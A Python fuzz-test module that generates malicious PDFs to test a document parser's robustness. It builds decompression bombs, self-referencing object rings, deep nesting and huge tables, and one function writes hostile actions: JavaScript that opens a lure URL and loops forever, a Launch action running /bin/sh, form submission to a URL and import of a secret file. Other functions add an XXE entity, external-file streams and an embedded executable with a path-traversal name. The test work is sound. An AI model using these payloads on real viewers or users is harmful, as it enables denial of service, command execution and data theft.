"""PDFs that are bombs, loops and traps. Each takes a random generator and a lure, and gives bytes."""

from __future__ import annotations

import zlib
from functools import cache
from random import Random

from tests.fuzz.documents import assembled, cv, page_of, pdf, stream
from tests.fuzz.lure import Lure


@cache
def _zeros(megabytes: int, unit: bytes = b"\0") -> bytes:
    packer = zlib.compressobj(9)
    block = unit * (1_000_000 // len(unit))
    return b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()


def flate_bomb(rng: Random, _: Lure) -> bytes:
    """One content stream that unpacks to drawing operators without end."""
    content = _zeros(rng.choice((30, 200)), rng.choice((b"0 0 m 9 9 l S\n", b"(a) Tj ", b"q ", b" ")))
    return pdf(b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(content), content))


def nested_filters(rng: Random, _: Lure) -> bytes:
    content, depth = _zeros(100), rng.randint(2, 40)
    for _layer in range(depth - 1):
        content = zlib.compress(content, 9)
    names = b"/FlateDecode" * (depth + rng.randint(0, 2))
    return pdf(b"<</Length %d/Filter[%s]>>stream\n%s\nendstream" % (len(content), names, content))


def run_length_bomb(rng: Random, _: Lure) -> bytes:
    content = zlib.compress(b"\x81q" * rng.randint(10_000, 5_000_000), 9)
    filters = b"/Filter[/FlateDecode/RunLengthDecode]"
    return pdf(b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), filters, content))


def image_bomb(rng: Random, _: Lure) -> bytes:
    side, content = rng.choice((10_000, 60_000, 2**31 - 1)), _zeros(30)
    image = b"<</Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceRGB/BitsPerComponent 8" % (side, side)
    image += b"/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(content), content)
    return pdf(page_of(cv()) + b" /I Do", image, resources=b"/XObject<</I 6 0 R>>")


def damaged_image(rng: Random, _: Lure) -> bytes:
    decoder = rng.choice((b"JBIG2Decode", b"JPXDecode", b"DCTDecode", b"CCITTFaxDecode", b"LZWDecode"))
    head = {b"JPXDecode": b"\0\0\0\x0cjP  \r\n\x87\n", b"DCTDecode": b"\xff\xd8\xff\xe0"}.get(decoder, b"\x97JB2")
    content = head + rng.randbytes(rng.randint(0, 20_000))
    extra = b"/Type/XObject/Subtype/Image/Width 999/Height 999/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/"
    return pdf(page_of(cv()), stream(content, extra + decoder, packed=False), resources=b"/XObject<</I 6 0 R>>")


def page_tree_of_itself(rng: Random, _: Lure) -> bytes:
    kids = rng.choice((b"2 0 R", b"2 0 R 3 0 R", b"1 0 R", b"3 0 R " * 500, b"9999 0 R"))
    pages = b"<</Type/Pages/Kids[%s]/Count %d/Parent 2 0 R>>" % (kids, rng.choice((-1, 1, 99, 2**31 - 1)))
    return assembled([b"<</Type/Catalog/Pages 2 0 R>>", pages, b"<</Type/Page/Parent 3 0 R>>"])


def deep_page_tree(rng: Random, _: Lure) -> bytes:
    depth = rng.choice((30, 1_000, 50_000))
    pages = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 3) for number in range(depth)]
    return assembled([b"<</Type/Catalog/Pages 2 0 R>>", *pages, b"<</Type/Page/MediaBox[0 0 9 9]>>"])


def many_pages(rng: Random, _: Lure) -> bytes:
    count = rng.choice((100, 101, 20_000))
    kids = b" ".join(b"%d 0 R" % (number + 4) for number in range(count))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 3 0 R/Resources<</Font<</F1<</Type/Font"
    page += b"/Subtype/Type1/BaseFont/Helvetica>>>>>>>>"
    tree = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)
    return assembled([b"<</Type/Catalog/Pages 2 0 R>>", tree, stream(page_of(cv())), *[page] * count])


def form_of_itself(rng: Random, _: Lure) -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X %d 0 R/Y 6 0 R>>>>"
    other = rng.choice((6, 7))
    forms = [stream(b"/X Do /Y Do", form % other), stream(b"/X Do " * 9, form % 6)]
    return pdf(page_of(cv()) + b" /X Do", *forms, resources=b"/XObject<</X 6 0 R>>")


def forms_that_multiply(rng: Random, _: Lure) -> bytes:
    """Each calls the next ten times: the billion laughs of drawing."""
    depth = rng.randint(4, 12)
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</Font<</F1 5 0 R>>/XObject<</X %d 0 R>>>>"
    forms = [stream(b"/X Do " * 10, form % (number + 7)) for number in range(depth)]
    last = stream(page_of("laugh"), form % 5)
    return pdf(page_of(cv()) + b" /X Do", *forms, last, resources=b"/XObject<</X 6 0 R>>")


def glyphs_of_itself(rng: Random, _: Lure) -> bytes:
    """A Type 3 font whose letter is drawn with the font."""
    font = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 7 0 R>>/FirstChar 97"
    font += b"/LastChar 97/Widths[%d]/Encoding<</Differences[97/a]>>/Resources<</Font<</T 6 0 R>>>>>>"
    width = rng.choice((0, 9, -(2**31), 2**31))
    letter = stream(b"9 0 d0 BT /T 9 Tf (aaaa) Tj ET")
    return pdf(b"BT /T 9 Tf (%s) Tj ET" % (b"a" * 999), font % width, letter, resources=b"/Font<</T 6 0 R>>")


def pattern_of_itself(rng: Random, _: Lure) -> bytes:
    pattern = b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep %s/YStep .0001"
    pattern += b"/Resources<</Pattern<</P 6 0 R>>>>"
    drawn = b"/Pattern cs /P scn 0 0 600 800 re f"
    step = rng.choice((b"0", b".0001", b"1e-30"))
    return pdf(page_of(cv()) + drawn, stream(drawn, pattern % step), resources=b"/Pattern<</P 6 0 R>>")


def outlines_in_a_ring(_: Random, __: Lure) -> bytes:
    outline = b"<</Title(a)/Parent 6 0 R/Next 7 0 R/Prev 7 0 R/First 6 0 R/Last 7 0 R>>"
    return pdf(page_of(cv()), b"<</Type/Outlines/First 7 0 R/Last 7 0 R>>", outline, catalog=b"/Outlines 6 0 R")


def object_streams_in_a_ring(rng: Random, _: Lure) -> bytes:
    held = b"6 0 7 4 null null"
    ring = stream(
        held, b"/Type/ObjStm/N %d/First %d/Extends 6 0 R" % (rng.choice((2, 2**31 - 1)), rng.choice((8, 9**9)))
    )
    return pdf(page_of(cv()), ring, ring)


def tables_in_a_ring(rng: Random, _: Lure) -> bytes:
    content = pdf(page_of(cv()))
    at = content.rindex(b"startxref\n") + 10
    where = rng.choice((int(content[at:].split()[0]), 0, 2**63, -1))
    return content.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % where)


def huge_table(rng: Random, _: Lure) -> bytes:
    size = rng.choice((2**31 - 1, 2**32, 10**18))
    table = stream(
        b"\0" * 50, b"/Type/XRef/Size %d/W[1 %d 2]/Index[0 %d]/Root 1 0 R" % (size, rng.choice((4, 9**9)), size)
    )
    body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    return body + b"9 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (table, len(body))


def deep_objects(rng: Random, _: Lure) -> bytes:
    opened, closed = rng.choice(((b"[", b"]"), (b"<</A", b">>"), (b"(", b")")))
    depth = rng.choice((100, 20_000, 1_000_000))
    return pdf(page_of(cv()), page=b"/X " + opened * depth + closed * rng.choice((0, depth)))


def deep_operands(rng: Random, _: Lure) -> bytes:
    opened = rng.choice((b"[", b"<<", b"(", b"q ", b"BT ", b"/A BDC ", b"BI "))
    return pdf(page_of(cv()) + opened * rng.choice((1_000, 1_000_000)))


def actions(rng: Random, lure: Lure) -> bytes:
    """Scripts, programs and addresses that a viewer would follow."""
    url, secret = lure.url.encode(), str(lure.secret).encode()
    action = rng.choice(
        (
            b"<</S/JavaScript/JS(app.launchURL\\('%s'\\);while\\(1\\);)>>" % url,
            b"<</S/Launch/F(/bin/sh)/Unix<</F(/bin/sh)/P(-c touch %s.x)>>>>" % secret,
            b"<</S/URI/URI(%s)>>" % url,
            b"<</S/SubmitForm/F<</FS/URL/F(%s)>>/Fields[]>>" % url,
            b"<</S/GoToR/F(%s)/D[0/Fit]>>" % url,
            b"<</S/ImportData/F(%s)>>" % secret,
        )
    )
    return pdf(page_of(cv()), catalog=b"/OpenAction %s/AA<</WC %s>>" % (action, action), page=b"/AA<</O %s>>" % action)


def outside_streams(_: Random, lure: Lure) -> bytes:
    """Content that says it lies in another file, or at an address."""
    file = b"<</Length 0/F<</FS/URL/F(%s)>>/FFilter/FlateDecode>>stream\n\nendstream" % lure.url.encode()
    local = b"<</Length 0/F(%s)>>stream\n\nendstream" % str(lure.secret).encode()
    return pdf(page_of(cv()), file, local, page=b"/Contents[4 0 R 6 0 R 7 0 R]")


def embedded_files(rng: Random, _: Lure) -> bytes:
    inner = rng.choice((b"MZ" + rng.randbytes(9_000), pdf(page_of(cv())), _zeros(50)))
    names = b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(../../a.exe)/EF<</F 6 0 R>>>>]>>>>"
    return pdf(page_of(cv()), stream(inner, b"/Type/EmbeddedFile"), catalog=names)


def forms_in_xml(_: Random, lure: Lure) -> bytes:
    entity = (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{lure.url}">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;</xdp:xdp>'
    )
    return pdf(page_of(cv()), stream(entity.encode()), catalog=b"/AcroForm<</XFA 6 0 R/Fields[]>>/Metadata 6 0 R")


def strange_boxes(rng: Random, _: Lure) -> bytes:
    numbers = (b"0", b"-1", b"1e38", b"99999999999999999999", b"-2147483648", b".00000001", b"NaN", b"null")
    box = b" ".join(rng.choices(numbers, k=4))
    extra = b"/MediaBox[%s]/CropBox[%s]/Rotate %d/UserUnit 99999" % (box, box, rng.choice((90, 45, 2**31)))
    return pdf(page_of(cv()), page=extra)


def strange_matrices(rng: Random, _: Lure) -> bytes:
    numbers = (b"0", b"1", b"-1", b"1e30", b"9999999999999", b"-2147483648", b".0000000001")
    moves = b"".join(b"%s Tm (word %d) Tj\n" % (b" ".join(rng.choices(numbers, k=6)), at) for at in range(3_000))
    return pdf(b"BT /F1 %s Tf %s ET" % (rng.choice(numbers), moves))


def strange_fonts(rng: Random, _: Lure) -> bytes:
    program = rng.choice((b"\0\1\0\0", b"OTTO", b"%!PS-AdobeFont", b"ttcf")) + rng.randbytes(
        rng.choice((50, 3_000_000))
    )
    kind = rng.choice((b"FontFile", b"FontFile2", b"FontFile3"))
    font = b"<</Type/Font/Subtype/%s/BaseFont/A/FirstChar %d/LastChar %d/Widths[%s]/FontDescriptor 7 0 R>>" % (
        rng.choice((b"TrueType", b"Type1", b"MMType1", b"CIDFontType2")),
        rng.choice((0, -5, 2**31)),
        rng.choice((255, 2**31 - 1)),
        b"999999999 " * rng.choice((1, 100_000)),
    )
    descriptor = b"<</Type/FontDescriptor/FontName/A/Flags 4/%s 8 0 R/Ascent 1e9/Descent -1e9>>" % kind
    extra = b"/Subtype/OpenType/Length1 %d" % rng.choice((0, 9, 2**31))
    drawn = page_of(cv()).replace(b"/F1", b"/F2")
    return pdf(drawn, font, descriptor, stream(program, extra), resources=b"/Font<</F2 6 0 R>>")


def strange_letters(rng: Random, _: Lure) -> bytes:
    """A map from codes to letters that nobody should write: none, halves of pairs, endless, turned around."""
    to = rng.choice((b"<0000>", b"<D800>", b"<DFFF0041>", b"<FFFF>", b"<202E>", b"<" + b"0041" * 9_000 + b">"))
    many = rng.choice((b"<00> <FF>", b"<0000> <FFFFFFFF>"))
    cmap = (
        b"/CIDInit/ProcSet findresource begin begincmap 1 begincodespacerange %s endcodespacerange 1 beginbfrange %s %s"
    )
    cmap = cmap % (many, many, to) + b" endbfrange endcmap end"
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 7 0 R>>"
    return pdf(page_of(cv()).replace(b"/F1", b"/F2"), font, stream(cmap), resources=b"/Font<</F2 6 0 R>>")


def endless_text(rng: Random, _: Lure) -> bytes:
    word = rng.choice((b"a", b"word ", b"(", b"2019 - ", b"\0"))
    shown = word.replace(b"(", b"\\(") * rng.choice((50_000, 500_000))
    return pdf(b"BT /F1 %s Tf 0 0 Td (%s) Tj ET" % (rng.choice((b"1", b".01")), shown))


def scattered_text(rng: Random, _: Lure) -> bytes:
    """Glyphs all over the page: the hardest for whoever looks for lines and columns."""
    count = rng.choice((3_000, 40_000))
    moves = b"".join(
        b"1 0 0 1 %d %d Tm (w%d) Tj\n" % (rng.randrange(600), rng.randrange(800), at) for at in range(count)
    )
    return pdf(b"BT /F1 2 Tf " + moves + b"ET")


def encrypted(rng: Random, _: Lure) -> bytes:
    content = pdf(page_of(cv()), b"<</Filter/Standard/V %d/R %d/Length %d/P -4/O<%s>/U<%s>>>" % (
        rng.randint(0, 6), rng.randint(0, 7), rng.choice((40, 128, 256, -1, 2**31)), b"00" * 32, b"00" * 32,
    ))  # fmt: skip
    return content.replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 6 0 R/ID[<00><00>]")


def many_updates(rng: Random, _: Lure) -> bytes:
    update = b"4 0 obj\n%s\nendobj\ntrailer<</Root 1 0 R>>\n%%%%EOF\n" % stream(page_of("again"))
    return pdf(page_of(cv())) + update * rng.choice((100, 20_000))


def long_names(rng: Random, _: Lure) -> bytes:
    name = rng.choice((b"A", b"#00", b"#")) * 3_000_000
    return pdf(page_of(cv()), page=b"/%s /%s" % (name, name))


SPECIALS = (
    flate_bomb, nested_filters, run_length_bomb, image_bomb, damaged_image, page_tree_of_itself, deep_page_tree,
    many_pages, form_of_itself, forms_that_multiply, glyphs_of_itself, pattern_of_itself, outlines_in_a_ring,
    object_streams_in_a_ring, tables_in_a_ring, huge_table, deep_objects, deep_operands, actions, outside_streams,
    embedded_files, forms_in_xml, strange_boxes, strange_matrices, strange_fonts, strange_letters, endless_text,
    scattered_text, encrypted, many_updates, long_names,
)  # fmt: skip
